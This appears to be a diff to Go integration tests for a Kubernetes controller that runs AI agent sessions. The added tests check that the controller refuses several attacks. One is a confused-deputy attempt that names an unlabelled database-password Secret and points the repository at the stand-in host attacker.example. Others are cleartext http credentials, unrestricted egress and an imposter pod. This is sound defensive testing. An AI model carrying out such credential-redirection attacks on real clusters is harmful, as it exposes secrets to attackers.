@@ -1,6 +1,7 @@
 package controllers
 
 import (
+	"context"
 	"fmt"
 	"strings"
 	"sync"
@@ -33,6 +34,13 @@ func create(t *testing.T, s *v1.AgentSession) *v1.AgentSession {
 func TestSessionRunsToCompletion(t *testing.T) {
 	ctx := testContext(t, 2*time.Minute)
 	ns := restrictedNamespace(t, ctx)
+	createGitCredentials(t, ctx, ns, "git-creds", map[string]string{LabelGitCredentials: "true"})
+	if err := env.Client.Create(ctx, &v1.AgentPolicy{
+		ObjectMeta: metav1.ObjectMeta{Name: "egress", Namespace: ns},
+		Spec:       v1.AgentPolicySpec{Egress: []v1.EgressRule{{Host: "pkg.go.dev"}, {Host: "nowhere.invalid"}}},
+	}); err != nil {
+		t.Fatal(err)
+	}
 	m := startManager(t, ns)
 	s := create(t, testutil.Session("fix-flaky", ns).Credentials("git-creds").
 		Egress(v1.EgressRule{Host: "pkg.go.dev"}).Egress(v1.EgressRule{Host: "nowhere.invalid"}).Obj())
@@ -44,6 +52,10 @@ func TestSessionRunsToCompletion(t *testing.T) {
 	got := waitForPhase(t, ctx, s, v1.PhasePending, v1.ReasonPending)
 	if got.Status.PodName != pod.Name || got.Status.ObservedGeneration != got.Generation {
 		t.Fatalf("status = %+v", got.Status)
+	}
+	// The gateway accepts the runner's token only from this pod.
+	if got.Status.PodUID != string(pod.UID) {
+		t.Fatalf("status.podUID = %q, want the pod's UID %q", got.Status.PodUID, pod.UID)
 	}
 
 	np := &networkingv1.NetworkPolicy{}
@@ -323,11 +335,11 @@ func TestRestrictedAdmissionIsEnforced(t *testing.T) {
 	ns := restrictedNamespace(t, ctx)
 	s := testutil.Session("probe", ns).UID("uid-probe").Obj()
 
-	ok := buildRunnerPod(s, testRunnerConfig)
+	ok := buildRunnerPod(s, testRunnerConfig, defaultSettings(t, s))
 	if err := env.Client.Create(ctx, ok); err != nil {
 		t.Fatalf("the apiserver refused the runner pod under Pod Security 'restricted': %v", err)
 	}
-	bad := buildRunnerPod(s, testRunnerConfig)
+	bad := buildRunnerPod(s, testRunnerConfig, defaultSettings(t, s))
 	bad.Name = "not-restricted"
 	bad.Spec.Containers[0].SecurityContext.AllowPrivilegeEscalation = ptr.To(true)
 	err := env.Client.Create(ctx, bad)
@@ -414,4 +426,125 @@ func TestPolicyViolationAndMissingProvider(t *testing.T) {
 		t.Fatal(err)
 	}
 	waitForPod(t, ctx, waiting)
+}
+
+func createGitCredentials(t *testing.T, ctx context.Context, ns, name string, labels map[string]string) {
+	t.Helper()
+	if err := env.Client.Create(ctx, &corev1.Secret{
+		ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: ns, Labels: labels},
+		StringData: map[string]string{"username": "ci", "password": "s3cret"},
+	}); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// TestCredentialsSecretMustOptIn performs the confused-deputy attack: a user who may create
+// sessions but not read Secrets names the namespace's database password as git credentials
+// and points the repository at a server they control. The session must fail without a pod
+// ever mounting the Secret; a Secret its owner labelled is used.
+func TestCredentialsSecretMustOptIn(t *testing.T) {
+	ctx := testContext(t, time.Minute)
+	ns := restrictedNamespace(t, ctx)
+	createGitCredentials(t, ctx, ns, "db-password", nil)
+	createGitCredentials(t, ctx, ns, "git-creds", map[string]string{LabelGitCredentials: "true"})
+	m := startManager(t, ns)
+
+	attack := create(t, testutil.Session("exfiltrate", ns).Repo("https://attacker.example/x.git").Credentials("db-password").Obj())
+	got := waitForPhase(t, ctx, attack, v1.PhaseFailed, v1.ReasonInvalidSpec)
+	msg := cond(got, v1.ConditionSucceeded).Message
+	for _, want := range []string{"spec.repository.credentialsSecretRef", `"db-password"`, "agentry.dev/git-credentials=true"} {
+		if !strings.Contains(msg, want) {
+			t.Errorf("message %q lacks %q", msg, want)
+		}
+	}
+	expectEvent(t, m, v1.ReasonInvalidSpec)
+	if err := podGone(ctx, attack); err != nil {
+		t.Fatalf("a pod was created for a session naming a Secret that did not opt in: %v", err)
+	}
+
+	// Plain http would send even an opted-in Secret in clear text.
+	cleartext := create(t, testutil.Session("cleartext", ns).Repo("http://git.example.com/org/repo.git").Credentials("git-creds").Obj())
+	got = waitForPhase(t, ctx, cleartext, v1.PhaseFailed, v1.ReasonInvalidSpec)
+	if msg := cond(got, v1.ConditionSucceeded).Message; !strings.Contains(msg, "http:// spec.repository.url") {
+		t.Errorf("message %q does not explain the http:// refusal", msg)
+	}
+	if err := podGone(ctx, cleartext); err != nil {
+		t.Fatalf("a pod was created to send credentials over http: %v", err)
+	}
+
+	ok := create(t, testutil.Session("allowed", ns).Credentials("git-creds").Obj())
+	pod := waitForPod(t, ctx, ok)
+	mounted := false
+	for _, v := range pod.Spec.Volumes {
+		mounted = mounted || (v.Secret != nil && v.Secret.SecretName == "git-creds")
+	}
+	if !mounted {
+		t.Fatalf("the opted-in Secret is not mounted: %+v", pod.Spec.Volumes)
+	}
+}
+
+// TestEgressNeedsAnAgentPolicy: in a namespace nobody governs, a session must not open its
+// pod's egress to the whole internet.
+func TestEgressNeedsAnAgentPolicy(t *testing.T) {
+	ctx := testContext(t, time.Minute)
+	ns := restrictedNamespace(t, ctx)
+	startManager(t, ns)
+	s := create(t, testutil.Session("open", ns).Egress(v1.EgressRule{CIDR: "0.0.0.0/0"}).Obj())
+	got := waitForPhase(t, ctx, s, v1.PhaseFailed, v1.ReasonPolicyViolation)
+	if msg := cond(got, v1.ConditionSucceeded).Message; !strings.Contains(msg, "spec.network.egress") || !strings.Contains(msg, "AgentPolicy's spec.egress") {
+		t.Errorf("message %q does not name the field and how to allow it", msg)
+	}
+	if err := podGone(ctx, s); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// TestReplacedPodIsNotTrusted: someone deletes the runner pod while the manager is down and
+// creates a look-alike with the same name, labels and owner reference. The session must
+// not adopt it: status.podUID stays the original pod's, and the session fails.
+func TestReplacedPodIsNotTrusted(t *testing.T) {
+	ctx := testContext(t, time.Minute)
+	ns := restrictedNamespace(t, ctx)
+	m := startManager(t, ns)
+	s := create(t, testutil.Session("bound", ns).Obj())
+	pod := waitForPod(t, ctx, s)
+	eventually(t, ctx, "status.podUID", func() error {
+		got, err := getSession(ctx, s)
+		if err != nil {
+			return err
+		}
+		if got.Status.PodUID != string(pod.UID) {
+			return fmt.Errorf("status.podUID = %q, want %q", got.Status.PodUID, pod.UID)
+		}
+		return nil
+	})
+	m.stop()
+
+	if err := env.Client.Delete(ctx, pod, client.GracePeriodSeconds(0)); err != nil {
+		t.Fatal(err)
+	}
+	eventually(t, ctx, "pod deletion", func() error { return podGone(ctx, s) })
+	eventually(t, ctx, "pod to be gone for good", func() error {
+		err := env.Client.Get(ctx, client.ObjectKeyFromObject(pod), &corev1.Pod{})
+		if apierrors.IsNotFound(err) {
+			return nil
+		}
+		return fmt.Errorf("pod still there: %v", err)
+	})
+	imposter := pod.DeepCopy()
+	imposter.ResourceVersion, imposter.UID, imposter.CreationTimestamp = "", "", metav1.Time{}
+	imposter.DeletionTimestamp, imposter.DeletionGracePeriodSeconds, imposter.Finalizers = nil, nil, nil
+	imposter.Status = corev1.PodStatus{}
+	if err := env.Client.Create(ctx, imposter); err != nil {
+		t.Fatal(err)
+	}
+
+	startManager(t, ns)
+	got := waitForPhase(t, ctx, s, v1.PhaseFailed, v1.ReasonPodDeleted)
+	if got.Status.PodUID != string(pod.UID) {
+		t.Fatalf("status.podUID = %q, want the original pod's %q", got.Status.PodUID, pod.UID)
+	}
+	if msg := cond(got, v1.ConditionSucceeded).Message; !strings.Contains(msg, "replaced") {
+		t.Errorf("message %q does not say the pod was replaced", msg)
+	}
 }
